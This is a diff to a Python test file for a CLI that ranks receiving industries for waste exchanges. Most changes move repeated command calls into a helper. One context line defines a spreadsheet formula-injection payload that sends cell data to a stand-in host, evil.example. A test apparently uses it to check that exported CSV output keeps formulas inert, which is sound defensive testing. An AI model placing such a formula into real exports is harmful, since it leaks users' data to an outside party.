@@ -6,17 +6,14 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
+from click.testing import CliRunner, Result
 
 from helix.cli import main
 from helix.symbiosis import receivers
-from helix.symbiosis.models import (
-    AllocationRun,
-    DocumentedExchange,
-    ResourceFlow,
-)
+from helix.symbiosis.models import AllocationRun, DocumentedExchange, ResourceFlow
 from tests.helpers.exchanges import corpus
 from tests.symbiosis.helpers import world
 
@@ -24,6 +21,12 @@ pytestmark = [pytest.mark.integration, pytest.mark.django_db]
 
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def rank_receivers(learn: Path, queries: Path, *options: str) -> Result:
+    """``helix symbiosis rank-receivers`` learning from ``learn``, ranking ``queries``."""
+    args = ["--learn-from", str(learn), "--queries", str(queries), *options]
+    return CliRunner().invoke(main, ["symbiosis", "rank-receivers", *args])
 
 
 def test_cli_proposals_and_allocation_write_formula_text_inert(tmp_path):
@@ -66,23 +69,7 @@ def test_rank_receivers_writes_the_agreed_columns(tmp_path) -> None:
         encoding="utf-8",
     )
     out = tmp_path / "ranks.csv"
-    result = CliRunner().invoke(
-        main,
-        [
-            "symbiosis",
-            "rank-receivers",
-            "--learn-from",
-            str(learn),
-            "--queries",
-            str(queries),
-            "--top",
-            "3",
-            "--output",
-            str(out),
-            "--encoder",
-            "hashing",
-        ],
-    )
+    result = rank_receivers(learn, queries, "--top", "3", "--output", str(out), "--encoder", "hashing")
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(io.StringIO(out.read_text())))
     assert list(rows[0]) == ["query_index", "rank", "nace_code", "score"]
@@ -97,10 +84,7 @@ def test_rank_receivers_writes_the_agreed_columns(tmp_path) -> None:
 def test_rank_receivers_names_a_missing_column(tmp_path) -> None:
     learn = tmp_path / "exchanges.csv"
     learn.write_text("Case Number,Waste description\n1,slag\n", encoding="utf-8")
-    result = CliRunner().invoke(
-        main,
-        ["symbiosis", "rank-receivers", "--learn-from", str(learn), "--queries", str(learn)],
-    )
+    result = rank_receivers(learn, learn)
     assert result.exit_code != 0
     assert "column(s) missing" in result.output
     assert "NACE code - Providing industry" in result.output
@@ -170,21 +154,7 @@ def test_rank_receivers_leaves_out_unlabelled_learning_rows_and_says_so(tmp_path
     learn.write_text(corpus() + "9,2410,slag,100202,,\n", encoding="utf-8")
     queries = tmp_path / "queries.csv"
     queries.write_text("NACE code - Providing industry,Waste description,EWC code\n2410,slag,100202\n")
-    result = CliRunner().invoke(
-        main,
-        [
-            "symbiosis",
-            "rank-receivers",
-            "--learn-from",
-            str(learn),
-            "--queries",
-            str(queries),
-            "--top",
-            "1",
-            "--encoder",
-            "none",
-        ],
-    )
+    result = rank_receivers(learn, queries, "--top", "1", "--encoder", "none")
     assert result.exit_code == 0, result.output
     assert "1 rows without a receiving industry or a waste left out (lines 30)" in result.output
     assert "0,1,2351," in result.output
